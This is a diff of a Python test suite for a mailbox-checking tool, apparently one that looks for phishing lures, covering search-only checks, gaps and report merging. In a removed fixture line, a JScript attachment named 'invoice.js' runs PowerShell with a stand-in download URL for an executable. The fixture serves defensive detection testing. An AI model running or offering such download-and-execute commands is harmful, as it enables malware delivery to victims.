@@ -6,9 +6,11 @@ import json
 import mailbox
 from collections.abc import Callable
 from pathlib import Path
+from random import Random
 from typing import Any
 
 import pytest
+from support.carriers.shortcuts import itself
 from support.cli import complaint, invoke, status
 from support.dovecot import Dovecot
 from support.imap_checking import check, report
@@ -17,12 +19,14 @@ from support.mbox_files import written
 from support.reported import HEADING, THREAD, fake
 from support.searched_mails import SAID, TOP, leaf, parts
 
-from mimawari.model import Report
+from mimawari import app
+from mimawari.faces import json_report
+from mimawari.model import Level, Reason, Report, Source
 
 OWN = "tanaka@sakura.example.jp"
 QUOTED = TOP.replace(b"a@example.com", OWN.encode()).replace(b"<1@", b"<orig@") + leaf(SAID, encoding="base64")
-SCRIPT = b'var s = new ActiveXObject("WScript.Shell"); s.Run("powershell -enc AAAA http://a.example/b.exe");'
-LURE = TOP + parts("mixed", leaf("ご確認ください。\r\n"), attached("invoice.js", SCRIPT))
+SHORTCUT = itself(Random(1)).data
+LURE = TOP + parts("mixed", leaf("ご確認ください。\r\n"), attached("invoice.lnk", SHORTCUT))
 MAILS = (LURE, QUOTED, TOP.replace(b"<1@", b"<2@") + leaf("別の話です。\r\n"))
 
 
@@ -53,16 +57,16 @@ def case(tmp_path: Path) -> list[str]:
     return ["check", "--jobs", "0", "--us", str(tmp_path / "us.toml"), "--reported", str(tmp_path / "fake.eml")]
 
 
-def told(*words: str) -> dict[str, Any]:
+def told(*words: str) -> tuple[Report, dict[str, Any]]:
+    """The report, and its verdict as it was printed."""
     result = invoke(*words, "--json")
     assert status(result) not in (2, 3, 70), result.stderr
-    given: dict[str, Any] = json.loads(result.stdout)
-    return given
+    return json_report.read(result.stdout), json.loads(result.stdout)["verdict"]
 
 
-def of_box(report: dict[str, Any]) -> dict[str, Any]:
-    [source] = [one for one in report["sources"] if one["kind"] not in ("inquiry", "single-file", "mail")]
-    return dict(source)
+def of(report: Report, locator: Path | str) -> Source:
+    [source] = [one for one in report.sources if one.locator == str(locator) and one.kind != "inquiry"]
+    return source
 
 
 @pytest.mark.parametrize("kind", [as_mbox, as_maildir, as_folder])
@@ -70,25 +74,25 @@ def test_the_answer_is_that_of_the_whole_check_and_the_lure_is_not_looked_at(
     kind: Callable[[Path], Path], case: list[str], tmp_path: Path
 ) -> None:
     box = str(kind(tmp_path / "box"))
-    whole, search = told(*case, "--ours", box), told(*case, "--search-only", box)
-    assert search["verdict"]["us"] == whole["verdict"]["us"]
-    assert "thread-in-our-mailbox" in json.dumps(search)
-    assert [one["kind"] for one in of_box(whole)["findings"]], "the lure would be found"
-    source = of_box(search)
-    assert source["findings"] == []
-    [gap] = source["gaps"]
-    assert (gap["reason"], gap["wanted"]) == ("unsupported", "closed-mail")
-    assert "--search-only" in gap["remedy"]["en"] and "--search-only" in gap["remedy"]["ja"]
-    assert source["looked_at"]["searched-mail"] == 3
-    assert source["level"] == "undetermined"
+    (whole, before), (search, after) = told(*case, "--ours", box), told(*case, "--search-only", box)
+    assert after["us"] == before["us"]
+    assert [one.kind for source in search.sources for one in source.findings].count("thread-in-our-mailbox") == 1
+    assert app.level_of(of(whole, box)) is Level.EXPOSED
+    source = of(search, box)
+    assert app.level_of(source) is Level.UNDETERMINED
+    assert source.findings == () and source.looked_at["searched-mail"] == 3
+    [gap] = source.gaps
+    assert (gap.reason, gap.wanted) == (Reason.UNSUPPORTED, "closed-mail")
+    assert gap.remedy and "--search-only" in gap.remedy.en and "--search-only" in gap.remedy.ja
 
 
 def test_a_mailbox_without_anything_strange_is_never_called_clean(case: list[str], tmp_path: Path) -> None:
     box = tmp_path / "box"
     box.write_bytes(written([MAILS[2].replace(b"\r\n", b"\n")], "mboxrd").data)
-    assert of_box(told(*case, "--ours", str(box)))["level"] == "no-sign"
-    assert of_box(told(*case, "--search-only", str(box)))["level"] == "undetermined"
-    assert told(*case, "--search-only", str(box))["verdict"]["level"] != "no-sign"
+    assert app.level_of(of(told(*case, "--ours", str(box))[0], box)) is Level.NO_SIGN
+    report, verdict = told(*case, "--search-only", str(box))
+    assert app.level_of(of(report, box)) is Level.UNDETERMINED
+    assert verdict["level"] != "no-sign"
 
 
 @pytest.mark.parametrize(
@@ -103,15 +107,15 @@ def test_it_is_said_on_the_page(lang: str, said: str, case: list[str], tmp_path:
 def test_other_mailboxes_are_checked_as_ever(case: list[str], tmp_path: Path) -> None:
     box, other = as_mbox(tmp_path / "box"), as_mbox(tmp_path / "other")
     other.write_bytes(other.read_bytes() + b"\n")
-    sources = {one["locator"]: one for one in told(*case, "--search-only", str(box), "--ours", str(other))["sources"]}
-    assert not sources[str(box)]["findings"] and sources[str(other)]["findings"]
+    report, _ = told(*case, "--search-only", str(box), "--ours", str(other))
+    assert not of(report, box).findings and of(report, other).findings
 
 
 def test_what_is_no_mailbox_is_checked_as_ever(case: list[str], tmp_path: Path) -> None:
-    place = tmp_path / "invoice.js"
-    place.write_bytes(SCRIPT)
-    [source] = [one for one in told(*case, "--search-only", str(place))["sources"] if one["locator"] == str(place)]
-    assert source["findings"] and not [gap for gap in source["gaps"] if gap["wanted"] == "closed-mail"]
+    place = tmp_path / "invoice.lnk"
+    place.write_bytes(SHORTCUT)
+    source = of(told(*case, "--search-only", str(place))[0], place)
+    assert source.findings and "closed-mail" not in {gap.wanted for gap in source.gaps}
 
 
 def test_no_line_calls_a_searched_mail_anything(case: list[str], tmp_path: Path) -> None:
@@ -127,7 +131,8 @@ def test_a_search_and_a_check_of_the_same_mails_are_merged(case: list[str], tmp_
         files[-1].write_text(invoke(*case, *words, "--json").stdout, "utf-8")
     merged = invoke("merge", *map(str, files), "--json")
     assert status(merged) not in (2, 3, 70), merged.stderr
-    assert of_box(json.loads(merged.stdout))["findings"]
+    source = of(json_report.read(merged.stdout), box)
+    assert source.findings and "closed-mail" in {gap.wanted for gap in source.gaps}
 
 
 def test_it_belongs_to_the_question(tmp_path: Path) -> None:
@@ -142,5 +147,5 @@ def test_mails_of_an_account_that_were_searched_are_read_again_by_a_check(doveco
     assert whole.looked_at["message"] == 3 and whole.findings
 
 
-def boxes(given: Report) -> list[Any]:
+def boxes(given: Report) -> list[Source]:
     return [source for source in given.sources if source.kind == "imap"]
